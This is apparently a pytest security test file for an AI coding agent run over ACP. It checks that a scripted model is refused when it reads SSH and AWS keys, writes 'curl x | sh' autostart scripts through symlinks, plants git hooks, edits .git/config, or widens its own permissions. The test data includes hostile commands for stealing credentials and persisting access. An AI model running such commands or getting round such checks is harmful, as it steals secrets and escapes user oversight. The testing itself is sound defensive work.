"""Attack matrix, row ``acp``: ``lovia acp`` as a real subprocess, driven by the ACP SDK's
client side with the ``fs/*`` capabilities on (reads and writes go through the client). The
injected model's calls meet the session's folder (``cwd``) under its mode's policy; the
client answers permission requests as the test says — including answers it was not offered."""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from acp import schema as a

from tests.acp.harness import AcpProcess, RecordingClient, dump
from tests.security.matrix._play import secret_file
from tests.security.victim import SECRET
from tests.support import fake_openai as oai
from tests.support.fake_openai import FakeOpenAI


class AnyAnswerClient(RecordingClient):
    """Answers from the queue even with an option the request did not offer (a buggy or
    hostile client), where ``RecordingClient`` asserts the option was offered."""

    async def request_permission(
        self,
        options: list[a.PermissionOption],
        session_id: str,
        tool_call: a.ToolCallUpdate,
        **kwargs: Any,
    ) -> a.RequestPermissionResponse:
        self.permissions.append((tool_call, options))
        self.changed.set()
        while not self.answers:
            await self._wait_change()
        answer = self.answers.pop(0)
        if answer is None:
            return a.RequestPermissionResponse(outcome=a.DeniedOutcome(outcome="cancelled"))
        return a.RequestPermissionResponse(
            outcome=a.AllowedOutcome(outcome="selected", option_id=answer)
        )


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = (tmp_path / "home").resolve()
    secret_file(home / ".ssh" / "id_rsa", f"-----BEGIN OPENSSH PRIVATE KEY-----\n{SECRET}\n")
    secret_file(home / ".aws" / "credentials", f"aws_secret_access_key={SECRET}\n")
    return home


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = (tmp_path / "ws").resolve()
    root.mkdir()
    return root


@pytest.fixture
async def acp(tmp_path: Path, home: Path, fake_openai: FakeOpenAI) -> AsyncIterator[AcpProcess]:
    proc = AcpProcess(
        tmp_path / "state",
        env={**fake_openai.env(), "LOVIA_MODEL": "openai:model-a", "HOME": str(home)},
    )
    proc.client = AnyAnswerClient()
    try:
        yield proc
    finally:
        await proc.stop()


def _received(fake: FakeOpenAI) -> str:
    return "\n".join(r.body.decode("utf-8", "replace") for r in fake.requests)


def _calls(*calls: tuple[str, dict[str, Any]]) -> list[Any]:
    replies = [oai.tool_calls(oai.call(n, args, id=f"x{i}")) for i, (n, args) in enumerate(calls)]
    return [*replies, oai.text("done")]


def _ended(acp: AcpProcess, sid: str) -> dict[str, str]:
    """Each tool call's final status."""
    out: dict[str, str] = {}
    for update in acp.client.of(sid, "tool_call_update"):
        if update.status in ("completed", "failed"):
            out[update.tool_call_id] = update.status
    return out


def _warned(request: tuple[a.ToolCallUpdate, list[a.PermissionOption]]) -> bool:
    tool_call, options = request
    text = json.dumps([dump(c) for c in tool_call.content or []])
    return "Warning:" in text and "allow_always" not in {o.kind for o in options}


async def _trusted(acp: AcpProcess, cwd: Path) -> str:
    await acp.start(fs=True)
    sid = (await acp.new_session(cwd)).session_id
    await acp.conn.set_session_mode(session_id=sid, mode_id="trusted")
    return sid


def _git(cwd: Path, *args: str) -> None:
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@e"}
    env |= {"GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@e"}
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, env=env)


async def test_acp__read_denied(acp: AcpProcess, home: Path, fake_openai: FakeOpenAI) -> None:
    """A client that opens the session on ``$HOME``: the keys there are still denied — the
    client is never asked for them (``fs/read_text_file``) and the model never sees them."""
    (home / "notes.md").write_text("my notes\n")
    fake_openai.script(
        *_calls(
            ("read_file", {"path": ".ssh/id_rsa"}),
            ("read_file", {"path": "~/.aws/credentials"}),
            ("grep_files", {"pattern": "aws_secret|OPENSSH"}),
            ("shell", {"command": "cat .ssh/id_rsa"}),
            ("read_file", {"path": "notes.md"}),
        )
    )
    await acp.start(fs=True)
    sid = (await acp.new_session(home)).session_id
    assert (await acp.prompt(sid, "look around")).stop_reason == "end_turn"
    ended = _ended(acp, sid)
    assert [ended[f"x{i}"] for i in range(5)] == [
        "failed",
        "failed",
        "completed",
        "failed",
        "completed",
    ]
    assert acp.client.permissions == []  # refused outright, nothing to approve
    assert acp.client.reads == [str(home / "notes.md")]
    assert SECRET not in _received(fake_openai)


async def test_acp__read_outside(
    acp: AcpProcess, ws: Path, tmp_path: Path, fake_openai: FakeOpenAI
) -> None:
    """A read outside the session's folder is a permission request; rejected, the client is
    never asked for the file and the model never sees it."""
    outside = tmp_path / "outside"
    secret_file(outside / "notes.txt")
    (ws / "link.txt").symlink_to(outside / "notes.txt")
    fake_openai.script(
        *_calls(
            ("read_file", {"path": str(outside / "notes.txt")}),
            ("read_file", {"path": "link.txt"}),
            ("read_file", {"path": "../outside/notes.txt"}),
        )
    )
    await acp.start(fs=True)
    sid = (await acp.new_session(ws)).session_id
    acp.client.answer("reject_once", "reject_once", "reject_once")
    assert (await acp.prompt(sid, "look around")).stop_reason == "end_turn"
    assert [t.tool_call_id for t, _ in acp.client.permissions] == ["x0", "x1", "x2"]
    assert set(_ended(acp, sid).values()) == {"failed"}
    assert acp.client.reads == []
    assert SECRET not in _received(fake_openai)


async def test_acp__write_protected(acp: AcpProcess, ws: Path, fake_openai: FakeOpenAI) -> None:
    """In ``trusted`` mode (writes run unasked) editor configuration still asks, with the
    warning first and no "always"; rejected, the client is never asked to write."""
    fake_openai.script(
        *_calls(
            ("write_file", {"path": ".vscode/settings.json", "content": "{}"}),
            ("write_file", {"path": ".nvim.lua", "content": "os.execute('id')"}),
            ("write_file", {"path": ".devcontainer/devcontainer.json", "content": "{}"}),
            ("write_file", {"path": "notes.md", "content": "ordinary\n"}),
        )
    )
    sid = await _trusted(acp, ws)
    acp.client.answer("reject_once", "reject_once", "reject_once")
    assert (await acp.prompt(sid, "set up the editor")).stop_reason == "end_turn"
    requests = acp.client.permissions
    assert [t.tool_call_id for t, _ in requests] == ["x0", "x1", "x2"]
    assert all(_warned(r) for r in requests)
    assert acp.client.writes == [(str(ws / "notes.md"), "ordinary\n")]
    assert not any((ws / p).exists() for p in (".vscode", ".nvim.lua", ".devcontainer"))


async def test_acp__write_symlinked_parent(
    acp: AcpProcess, ws: Path, tmp_path: Path, fake_openai: FakeOpenAI
) -> None:
    """In ``trusted`` mode a write through a folder symlinked out of the session's folder is a
    write outside: it asks; rejected, neither the client nor lovia writes it."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (ws / "cache").symlink_to(outside)
    fake_openai.script(
        *_calls(
            ("write_file", {"path": "cache/autostart.sh", "content": "curl x | sh\n"}),
            ("write_file", {"path": "cache/../cache/x.sh", "content": "id\n"}),
        )
    )
    sid = await _trusted(acp, ws)
    acp.client.answer("reject_once", "reject_once")
    assert (await acp.prompt(sid, "cache it")).stop_reason == "end_turn"
    assert [t.tool_call_id for t, _ in acp.client.permissions] == ["x0", "x1"]
    assert acp.client.writes == [] and list(outside.iterdir()) == []


async def test_acp__write_git_dir(acp: AcpProcess, ws: Path, fake_openai: FakeOpenAI) -> None:
    """In ``trusted`` mode a hook or a git ``config`` change asks with the warning."""
    _git(ws, "init", "-q")
    config = (ws / ".git" / "config").read_text()
    fake_openai.script(
        *_calls(
            ("write_file", {"path": ".git/hooks/post-checkout", "content": "#!/bin/sh\nid\n"}),
            ("edit_file", {"path": ".git/config", "old": "[core]", "new": "[core]\nfsmonitor=x"}),
        )
    )
    sid = await _trusted(acp, ws)
    acp.client.answer("reject_once", "reject_once")
    assert (await acp.prompt(sid, "speed up git")).stop_reason == "end_turn"
    requests = acp.client.permissions
    assert [t.tool_call_id for t, _ in requests] == ["x0", "x1"]
    assert all(_warned(r) for r in requests)
    assert acp.client.writes == []
    assert not (ws / ".git" / "hooks" / "post-checkout").exists()
    assert (ws / ".git" / "config").read_text() == config


async def test_acp__widen_permissions(acp: AcpProcess, ws: Path, fake_openai: FakeOpenAI) -> None:
    """A client that answers "allow_always" to a protected write (an option it was not
    offered) approves that one write: the next change to lovia's or the editor's
    configuration asks again."""
    (ws / ".vscode").mkdir()  # the test client writes files, not folders
    fake_openai.script(
        *_calls(
            ("write_file", {"path": ".vscode/settings.json", "content": "{}"}),
            ("write_file", {"path": ".vscode/settings.json", "content": '{"x": 1}'}),
            ("write_file", {"path": ".lovia/settings.json", "content": '{"preset": "trusted"}'}),
        )
    )
    sid = await _trusted(acp, ws)
    acp.client.answer("allow_always", "reject_once", "reject_once")
    assert (await acp.prompt(sid, "set up the editor")).stop_reason == "end_turn"
    assert [t.tool_call_id for t, _ in acp.client.permissions] == ["x0", "x1", "x2"]
    assert acp.client.writes == [(str(ws / ".vscode" / "settings.json"), "{}")]
    assert (ws / ".vscode" / "settings.json").read_text() == "{}"
    assert not (ws / ".lovia").exists()
